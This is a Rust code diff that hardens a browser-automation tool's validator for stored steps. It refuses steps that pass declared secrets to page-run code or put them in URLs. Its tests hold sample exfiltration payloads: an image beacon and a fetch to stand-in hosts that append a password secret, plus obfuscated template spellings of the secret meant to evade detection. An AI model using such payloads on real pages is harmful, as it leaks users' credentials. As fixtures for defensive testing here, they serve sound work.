@@ -19,23 +19,81 @@ pub(crate) struct Reach {
     pub(crate) origins: Vec<String>,
 }
 
-/// The steps whose secrets a page of the app takes (typed, selected, in a URL of the app, or
-/// compared with): not `eval` (code that may send it anywhere) nor `route` (the network).
-const NO_SECRETS_IN: &[&str] = &["eval", "route"];
+/// Why a list of stored steps that reads a secret may hold no code the page runs.
+const NO_CODE: &str = "code the page runs sees all the page holds (what runner typed into it too) and may send it to any origin, so steps from an atlas that read a secret (typed, selected or compared by runner) hold no `eval`, `js` check or wait, or `route` before or after it, in any edge of the path; take that step out of the atlas's file";
 
 impl Reach {
     /// Admits the flow or the steps `v` read from `from` (see the module), `home` being the
-    /// origin of the atlas's root they start from. Err: why the first that is refused is
-    /// (`<from>: step 2 (`open`): ...`): [`AtlasError::Unconfigured`] for a secret
-    /// `[atlas] secrets` does not name (the project's setting to add, shown), else
-    /// [`AtlasError::Refused`].
+    /// origin of the atlas's root they start from: [`Reach::admit_all`] of that one part.
     pub(crate) fn admit(
         &self,
         v: &Value,
         home: Option<&str>,
         from: &str,
     ) -> Result<(), AtlasError> {
-        if let Some(name) = v
+        self.admit_all(&[(from.to_string(), v.clone())], home)
+    }
+
+    /// Admits the parts (each a flow or steps, and where it was read) that run one after the
+    /// other in one page — a root's entry, then each edge on the path — as the module says:
+    /// each step reads only declared secrets, as `secrets.NAME`, and opens only the atlas's
+    /// origins; no step puts a secret into a URL; and when any step reads a secret, no step of
+    /// any part runs code in the page (see [`NO_CODE`]). Err: why the first that is refused is
+    /// (`<from>: step 2 (`open`): ...`): [`AtlasError::Unconfigured`] for a secret
+    /// `[atlas] secrets` does not name (the project's setting to add, shown),
+    /// [`AtlasError::Exposed`] for a secret given to code or a URL, else
+    /// [`AtlasError::Refused`].
+    pub(crate) fn admit_all(
+        &self,
+        parts: &[(String, Value)],
+        home: Option<&str>,
+    ) -> Result<(), AtlasError> {
+        // The first step that reads a secret (where, which), and the first that runs code.
+        let mut reader: Option<(String, String)> = None;
+        let mut code: Option<String> = None;
+        for (from, v) in parts {
+            self.admit_declared(v, from)?;
+            let steps = match v {
+                Value::Array(steps) => steps.as_slice(),
+                other => other
+                    .get("steps")
+                    .and_then(Value::as_array)
+                    .map_or(&[][..], Vec::as_slice),
+            };
+            for (i, step) in steps.iter().enumerate() {
+                let key = step
+                    .as_object()
+                    .and_then(|m| m.keys().find(|k| *k != "name" && *k != "frame"))
+                    .map_or("?", String::as_str);
+                let at = format!("{from}: step {} (`{key}`)", i + 1);
+                let read =
+                    secrets_of(step).map_err(|why| AtlasError::Exposed(format!("{at}: {why}")))?;
+                if let Some(name) = read.iter().find(|n| !self.secrets.contains(n)) {
+                    return Err(AtlasError::Unconfigured(format!(
+                        "{at}: {}",
+                        self.undeclared(name)
+                    )));
+                }
+                self.admit_step(step, home, &read, &at)?;
+                if let (None, Some(name)) = (&reader, read.first()) {
+                    reader = Some((at.clone(), name.clone()));
+                }
+                if code.is_none() && runs_page_code(step) {
+                    code = Some(at);
+                }
+                if let (Some((reads, name)), Some(runs)) = (&reader, &code) {
+                    return Err(AtlasError::Exposed(format!(
+                        "{reads} reads the secret `{name}`, and {runs} runs code in the page: {NO_CODE}"
+                    )));
+                }
+            }
+        }
+        Ok(())
+    }
+
+    /// The secrets a flow `v` declares (its `secrets`) are ones `[atlas] secrets` names.
+    fn admit_declared(&self, v: &Value, from: &str) -> Result<(), AtlasError> {
+        match v
             .get("secrets")
             .and_then(Value::as_array)
             .into_iter()
@@ -43,34 +101,12 @@ impl Reach {
             .filter_map(Value::as_str)
             .find(|n| !self.secrets.iter().any(|s| s == n))
         {
-            return Err(AtlasError::Unconfigured(format!(
+            Some(name) => Err(AtlasError::Unconfigured(format!(
                 "{from}: `secrets`: {}",
                 self.undeclared(name)
-            )));
+            ))),
+            None => Ok(()),
         }
-        let steps = match v {
-            Value::Array(steps) => steps.as_slice(),
-            other => other
-                .get("steps")
-                .and_then(Value::as_array)
-                .map_or(&[][..], Vec::as_slice),
-        };
-        for (i, step) in steps.iter().enumerate() {
-            let key = step
-                .as_object()
-                .and_then(|m| m.keys().find(|k| *k != "name" && *k != "frame"))
-                .map_or("?", String::as_str);
-            let at = |why: String| format!("{from}: step {} (`{key}`): {why}", i + 1);
-            if let Some(name) = referenced_secrets(&step.to_string())
-                .iter()
-                .find(|n| !self.secrets.contains(n))
-            {
-                return Err(AtlasError::Unconfigured(at(self.undeclared(name))));
-            }
-            self.admit_step(key, step, home)
-                .map_err(|why| AtlasError::Refused(at(why)))?;
-        }
-        Ok(())
     }
 
     /// [`Reach::admit`], the refusal in words.
@@ -78,27 +114,34 @@ impl Reach {
         self.admit(v, home, from).map_err(|e| e.to_string())
     }
 
-    fn admit_step(&self, key: &str, step: &Value, home: Option<&str>) -> Result<(), String> {
-        let read = referenced_secrets(&step.to_string());
-        if let Some(name) = read.first().filter(|_| NO_SECRETS_IN.contains(&key)) {
-            return Err(format!(
-                "it reads the secret `{name}` in `{key}`: a stored step gives a secret only to the page (typed, selected, in a URL of the app), never to code or the network"
-            ));
-        }
+    /// The step `step` (`at`: where, for the refusal), reading the secrets `read`: an `open`
+    /// of an allowed origin, with no secret in its URL.
+    fn admit_step(
+        &self,
+        step: &Value,
+        home: Option<&str>,
+        read: &[String],
+        at: &str,
+    ) -> Result<(), AtlasError> {
         let url = match step.get("open") {
             Some(Value::String(u)) => u.as_str(),
             Some(o) => o.get("url").and_then(Value::as_str).unwrap_or_default(),
             None => return Ok(()),
         };
+        if let Some(name) = read.first() {
+            return Err(AtlasError::Exposed(format!(
+                "{at}: it puts the secret `{name}` into a URL: the page's code reads its URL (and the browser sends it on, in a `Referer`, in its history), so a step from an atlas gives a secret only to the page's fields; take the secret out of the URL"
+            )));
+        }
         let to = origin_of(url);
         let allowed = |o: &str| to.is_some() && origin_of(o) == to;
         if home.is_some_and(allowed) || self.origins.iter().any(|o| allowed(o)) {
             return Ok(());
         }
-        Err(format!(
-            "it opens `{url}`, which is not on the atlas's origin ({}) nor on one runner.toml's `[atlas] origins` names: a stored step opens only the app's pages, so nothing it reads or sends goes elsewhere",
+        Err(AtlasError::Refused(format!(
+            "{at}: it opens `{url}`, which is not on the atlas's origin ({}) nor on one runner.toml's `[atlas] origins` names: a stored step opens only the app's pages, so nothing it reads or sends goes elsewhere",
             home.unwrap_or("none recorded")
-        ))
+        )))
     }
 
     /// Why a step that reads the secret `name` is refused, and the setting that lets it.
@@ -178,25 +221,58 @@ pub(crate) fn origin_of(url: &str) -> Option<String> {
     (!host.is_empty()).then(|| format!("{scheme}://{host}"))
 }
 
-/// The secrets recorded steps refer to in their templates (`{{ secrets.X }}`, and what a
-/// template makes of one: `{{ secrets.X | lower }}`, `{{ secrets.X[2:8] }}`), sorted: a flow
-/// made of them declares them, so it validates and runs on its own.
-pub(crate) fn referenced_secrets(text: &str) -> Vec<String> {
-    static TAG: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
-    static NAME: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
-    let tag = TAG
-        .get_or_init(|| regex::Regex::new(r"(?s)\{\{.*?\}\}|\{%.*?%\}").expect("a valid pattern"));
-    let name = NAME.get_or_init(|| {
-        regex::Regex::new(r"\bsecrets\s*(?:\.\s*|\[\s*\\?['\x22])([A-Za-z_][A-Za-z0-9_]*)")
-            .expect("a valid pattern")
+/// The secrets the templates in the strings of `v` read (`{{ secrets.X }}`, and what a
+/// template makes of one: `{{ secrets.X | lower }}`, `{{ secrets.X[2:8] }}`), as the template
+/// lexer tells them ([`crate::template::secrets_read`]), sorted: a flow made of recorded steps
+/// declares them, so it validates and runs on its own.
+pub(crate) fn referenced_secrets(v: &Value) -> Vec<String> {
+    let mut secrets = Vec::new();
+    each_string(v, &mut |s| {
+        let read = crate::template::secrets_read(s).unwrap_or_default();
+        secrets.extend(read.into_iter().flatten());
     });
-    let mut secrets: Vec<String> = tag
-        .find_iter(text)
-        .flat_map(|t| name.captures_iter(t.as_str()).map(|c| c[1].to_string()))
-        .collect();
     secrets.sort();
     secrets.dedup();
     secrets
+}
+
+/// The secrets the step `step` reads, sorted; Err: why it is refused when which secret a
+/// template of it reads is not written there (`(secrets).PW`), or a template cannot be read.
+fn secrets_of(step: &Value) -> Result<Vec<String>, String> {
+    let mut secrets = Vec::new();
+    let mut why = None;
+    each_string(step, &mut |s| match crate::template::secrets_read(s) {
+        Ok(read) if read.iter().all(Option::is_some) => secrets.extend(read.into_iter().flatten()),
+        Ok(_) => {
+            why.get_or_insert_with(|| "it reads `secrets` otherwise than as `secrets.NAME` (or `secrets['NAME']`): a step from an atlas names the secret it reads, as runner writes it".to_string());
+        }
+        Err(e) => {
+            why.get_or_insert_with(|| format!("it holds a template runner cannot read: {e}"));
+        }
+    });
+    if let Some(why) = why {
+        return Err(why);
+    }
+    secrets.sort();
+    secrets.dedup();
+    Ok(secrets)
+}
+
+/// Calls `f` on each string of `v` (its maps' values, its lists' items).
+fn each_string(v: &Value, f: &mut dyn FnMut(&str)) {
+    match v {
+        Value::String(s) => f(s),
+        Value::Array(items) => items.iter().for_each(|i| each_string(i, f)),
+        Value::Object(m) => m.values().for_each(|i| each_string(i, f)),
+        _ => {}
+    }
+}
+
+/// Whether the stored step `step` runs code in the page (see `Action::runs_page_code`); one
+/// runner does not read is taken to.
+fn runs_page_code(step: &Value) -> bool {
+    serde_json::from_value::<crate::config::model::Step>(step.clone())
+        .map_or(true, |s| s.action.runs_page_code())
 }
 
 #[cfg(test)]
@@ -245,6 +321,65 @@ mod tests {
         assert!(off_origin("http://127.0.0.1:8000/", Some(&[])).is_some());
     }
 
+    /// D2 (attack 27): a secret stored steps read goes to the page only as runner gives it
+    /// (typed, selected, compared): a list of steps that reads one holds no code the page runs
+    /// (`eval`, a `js` check or wait, a `route`), before or after it, however the secret is
+    /// spelled, and no step puts a secret into a URL, where the page's code reads it back.
+    #[test]
+    fn steps_that_read_a_secret_hold_no_page_code_and_put_none_in_a_url() {
+        let reach = Reach {
+            secrets: vec!["PW".into()],
+            origins: Vec::new(),
+        };
+        let home = Some("http://127.0.0.1:8000");
+        let fill = json!({"fill": {"target": "#p", "value": "{{ secrets.PW }}"}});
+        let beacon = "new Image().src = 'http://localhost:18712/b?' + location.search; 1";
+        for (steps, said) in [
+            // (a) a `js` check or wait is code the page runs, as `eval` is.
+            (
+                json!([{"expect": {"js": "(new Image().src = '//x/?' + '{{ secrets.PW }}', true)"}}]),
+                "f: step 1 (`expect`) reads the secret `PW`, and f: step 1 (`expect`) runs code in the page",
+            ),
+            (
+                json!([{"wait": {"js": {"expr": "v => true", "args": "{{ secrets.PW }}"}}}]),
+                "f: step 1 (`wait`) reads the secret `PW`, and f: step 1 (`wait`) runs code in the page",
+            ),
+            // (b) the secret spelled so that no pattern over the text sees it.
+            (
+                json!([fill, {"eval": "'{{ (secrets).PW }}'"}]),
+                "f: step 2 (`eval`): it reads `secrets` otherwise than as `secrets.NAME`",
+            ),
+            (
+                json!([fill, {"eval": "'{{ secrets | attr(\"PW\") }}'"}]),
+                "f: step 2 (`eval`): it reads `secrets` otherwise than as `secrets.NAME`",
+            ),
+            // (c) put into the page by a step, read back by code that names no secret.
+            (
+                json!([{"open": "http://127.0.0.1:8000/?u={{ secrets.PW }}"}, {"eval": beacon}]),
+                "f: step 1 (`open`): it puts the secret `PW` into a URL",
+            ),
+            (
+                json!([fill, {"eval": beacon}]),
+                "f: step 1 (`fill`) reads the secret `PW`, and f: step 2 (`eval`) runs code in the page",
+            ),
+            // Code that runs first may wait for the secret to be typed.
+            (
+                json!([{"route": {"url": "**/x", "body": "<script>1</script>"}}, fill]),
+                "f: step 2 (`fill`) reads the secret `PW`, and f: step 1 (`route`) runs code in the page",
+            ),
+        ] {
+            let Err(e) = reach.admit(&steps, home, "f") else {
+                panic!("admitted: {steps}");
+            };
+            assert!(e.to_string().contains(said), "{steps}: {e}");
+        }
+        // Code with no secret, and a secret with no code, are what they were.
+        let code = json!([{"eval": "1"}, {"expect": {"js": "true"}}, {"wait": {"js": "true"}}]);
+        assert!(reach.admit(&code, home, "f").is_ok());
+        let typed = json!([{"open": "http://127.0.0.1:8000/login"}, fill, {"click": "#go"}]);
+        assert!(reach.admit(&typed, home, "f").is_ok());
+    }
+
     #[test]
     fn stored_steps_read_the_declared_secrets_and_open_the_atlas_origins_only() {
         let reach = Reach {
@@ -253,7 +388,7 @@ mod tests {
         };
         let home = Some("http://127.0.0.1:8000");
         let ok = json!({"secrets": ["PW"], "steps": [
-            {"open": "http://127.0.0.1:8000/login?u={{ secrets.PW }}"},
+            {"open": "http://127.0.0.1:8000/login?u=me"},
             {"open": {"url": "https://AUTH.example.com:443/o"}},
             {"fill": {"target": "#p", "value": "{{ secrets.PW }}"}},
         ]});
@@ -273,7 +408,7 @@ mod tests {
             ),
             (
                 json!([{"click": "#a"}, {"eval": "fetch('//x/?' + '{{ secrets.PW }}')"}]),
-                "f: step 2 (`eval`): it reads the secret `PW` in `eval`",
+                "f: step 2 (`eval`) reads the secret `PW`, and f: step 2 (`eval`) runs code in the page",
             ),
         ] {
             let e = reach.admit(&flow, home, "f").unwrap_err().to_string();
@@ -298,7 +433,7 @@ mod tests {
         let e = reach
             .admit(&json!([{"eval": "'{{ secrets.PW }}'"}]), home, "f")
             .unwrap_err();
-        assert!(matches!(e, AtlasError::Refused(_)), "{e}");
+        assert!(matches!(e, AtlasError::Exposed(_)), "{e}");
         // With no atlas origin known, only the named ones.
         assert!(
             Reach::default()
